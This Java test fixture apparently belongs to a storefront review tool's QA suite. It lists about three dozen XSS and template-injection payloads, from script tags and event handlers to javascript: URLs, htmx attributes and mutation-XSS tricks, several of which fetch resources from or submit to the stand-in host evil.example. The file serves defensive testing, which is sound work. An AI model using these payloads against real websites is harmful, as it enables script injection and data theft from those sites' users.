package com.storefront.qa.review.web;

import java.util.List;

/**
 * Hostile text for questions, drafts, product names and reviewer edits. Every payload that ran
 * would show itself: a dialog ({@code alert}, {@code confirm}, {@code prompt}), a request to {@code
 * evil.example}, or a console error. Each is tagged so a failure names the one that got through.
 */
final class XssCorpus {
  private XssCorpus() {}

  /** The host every payload tries to reach; the browser tests fail on any request to it. */
  static final String EVIL_HOST = "evil.example";

  static final List<String> PAYLOADS =
      List.of(
          "<script>alert('x01')</script>",
          "<SCRIPT SRC=http://evil.example/x02.js></SCRIPT>",
          "<img src=x onerror=alert('x03')>",
          "<img src=\"http://evil.example/x04.png\">",
          "<svg onload=alert('x05')>",
          "<svg><script>alert('x06')</script></svg>",
          "<a href=\"javascript:alert('x07')\">click</a>",
          "<iframe src=\"javascript:alert('x08')\"></iframe>",
          "<body onload=alert('x09')>",
          "<div style=\"background:url(http://evil.example/x10)\">x10</div>",
          "\"><script>alert('x11')</script>",
          "'><img src=x onerror=alert('x12')>",
          "</textarea><script>alert('x13')</script>",
          "</title><script>alert('x14')</script>",
          "<input autofocus onfocus=alert('x15')>",
          "<details open ontoggle=alert('x16')>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert('x17')>",
          "{item.text} {msg:queue_title} {#include layout /} {inject:csrf.token}",
          "{#for x in items}{x}{/for} {{7*7}} ${7*7} #{7*7}",
          "<scr<script>ipt>alert('x20')</scr</script>ipt>",
          "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#39;x21&#39;&#41;\">",
          "&lt;script&gt;alert('x22')&lt;/script&gt;",
          "<object data=\"http://evil.example/x23.swf\"></object>",
          "<embed src=\"http://evil.example/x24\">",
          "<link rel=stylesheet href=http://evil.example/x25.css>",
          "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/x26\">",
          "<form action=\"http://evil.example/x27\"><button>go</button></form>",
          "<base href=\"http://evil.example/\">",
          "<video><source onerror=\"alert('x29')\"></video>",
          "<svg><animate onbegin=alert('x30') attributeName=x dur=1s>",
          "<div hx-get=\"http://evil.example/x31\" hx-trigger=\"load\">x31</div>",
          "<div hx-on:click=\"alert('x32')\" hx-trigger=\"load\">x32</div>",
          "<!--<img src=\"--><img src=x onerror=alert('x33')//\">",
          "<b>unclosed <i>markup <p",
          "\u202Egnp.exe\u202C <marquee>x35</marquee>",
          "javascript:alert('x36')",
          "<style>@import 'http://evil.example/x37.css';</style>");
}
